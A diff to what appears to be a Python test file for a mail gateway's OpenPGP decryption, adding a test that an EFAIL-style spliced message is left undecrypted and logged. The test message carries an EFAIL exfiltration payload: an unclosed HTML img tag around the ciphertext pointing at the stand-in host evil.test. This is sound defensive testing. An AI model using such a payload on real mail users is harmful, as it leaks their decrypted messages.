@@ -1,11 +1,12 @@
 #!/usr/bin/env python3
 """The gateway, OpenPGP inbound: PGP/MIME (and inline PGP) made by gpg
-(the other party) for alice, whose key pair osmsctl pgp made in the store, is decrypted
-before the virus scan and its signature checked; what was done is in an
-X-Osms-PGP field, which a sender cannot set. An encrypted virus is
-refused at DATA; a message without integrity protection (no MDC) is
-refused; one for a key that is not here, or for a recipient whose
-policy says decrypt no, is delivered as it came.
+(the other party) for alice, whose key pair osmsctl pgp made in the
+store, is decrypted before the virus scan and its signature checked;
+what was done is in an X-Osms-PGP field, which a sender cannot set. An
+encrypted part among unencrypted ones is left alone (EFAIL); an
+encrypted virus is refused at DATA; a message without integrity
+protection (no MDC) is refused; one for a key that is not here, or for a
+recipient whose policy says decrypt no, is delivered as it came.
 
 Debian packages: gnupg."""
 import os
@@ -123,6 +124,31 @@ with Osms() as o:
                      "decrypted for alice@example.test (inline)" and
                      b"inline secret" in box.raw_bytes("alice", mid),
                      repr(m and m["X-Osms-PGP"]))
+
+        with t.case("EFAIL: an encrypted part between HTML parts is not "
+                    "decrypted, and the field says why"):
+            mid = message_id()
+            arm = gpg("-r", "alice@example.test", "--encrypt",
+                      data=entity("the spliced secret"))
+            arm = arm.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
+            code, _ = smtp(mx, outer(mid) + (
+                b"Content-Type: multipart/mixed; boundary=\"m\"\r\n\r\n"
+                b"--m\r\nContent-Type: text/html\r\n\r\n<img src=\"http://"
+                b"evil.test/\r\n--m\r\nContent-Type: multipart/encrypted; "
+                b"protocol=\"application/pgp-encrypted\"; boundary=\"e\"\r\n"
+                b"\r\n--e\r\nContent-Type: application/pgp-encrypted\r\n\r\n"
+                b"Version: 1\r\n\r\n--e\r\nContent-Type: application/octet-"
+                b"stream\r\n\r\n" + arm + b"\r\n--e--\r\n--m\r\nContent-"
+                b"Type: text/html\r\n\r\n\">\r\n--m--\r\n"))
+            m = box.wait_for("alice", mid)
+            t.require(code == 250 and m is not None, "not delivered")
+            raw = box.raw_bytes("alice", mid)
+            t.expect(m["X-Osms-PGP"] == "an encrypted part among unencrypted"
+                     " ones: not decrypted (EFAIL)", repr(m["X-Osms-PGP"]))
+            t.expect(b"the spliced secret" not in raw and
+                     b"BEGIN PGP MESSAGE" in raw, "decrypted")
+            t.expect(wait_log(o, r"inbound openpgp: an encrypted part among "
+                              r"unencrypted ones"), "audited")
 
         with t.case("an encrypted virus is refused at DATA"):
             arm = gpg("-r", "alice@example.test", "--encrypt",
